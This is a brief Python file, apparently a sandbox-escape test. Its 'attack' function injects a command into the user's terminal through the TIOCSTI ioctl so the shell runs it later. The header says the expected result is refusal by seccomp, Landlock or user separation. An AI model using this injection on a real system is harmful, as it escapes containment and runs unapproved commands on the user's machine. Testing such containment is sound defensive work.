# Types a command into the user's terminal, for the shell to run after the end.
# Seen: refused by seccomp, by Landlock, or because the model is another user; nothing is typed.
import fcntl
import os
import termios


def attack(targets):
    terminal = os.open(targets.terminal, os.O_RDWR | os.O_NOCTTY)
    for byte in targets.name + b"\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([byte]))
